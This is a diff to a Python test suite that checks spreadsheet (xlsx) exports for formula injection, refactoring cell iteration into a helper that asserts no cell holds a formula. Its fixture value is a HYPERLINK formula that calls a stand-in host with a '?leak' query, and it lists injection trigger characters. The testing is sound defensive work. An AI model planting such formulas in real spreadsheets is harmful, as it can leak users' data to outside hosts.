@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from openpyxl import load_workbook
@@ -15,6 +16,15 @@ from tests import coverage_layouts as lay
 
 NAME = '=HYPERLINK("http://example.invalid/?leak","町")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def xlsx_cells(book: Any) -> list[Any]:
+    """Every cell of every sheet (the table, the 説明 sheet and the gaps), asserting none is a
+    formula."""
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    for cell in cells:
+        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
+    return cells
 
 
 @pytest.fixture(scope="module")
@@ -64,13 +74,7 @@ def test_no_xlsx_cell_is_a_formula(hostile, hostile_what_if, which: str) -> None
     report = hostile if which == "coverage" else hostile_what_if
     data = report_io.to_xlsx(report, "town", translator("ja"))
     book = load_workbook(io.BytesIO(data))
-    texts = []
-    for sheet in book.worksheets:  # the table, the 説明 sheet and the gaps
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
-                if isinstance(cell.value, str):
-                    texts.append(cell.value)
+    texts = [c.value for c in xlsx_cells(book) if isinstance(c.value, str)]
     assert any(NAME in t for t in texts)  # shown as the name it is
     numbers = [
         c.value
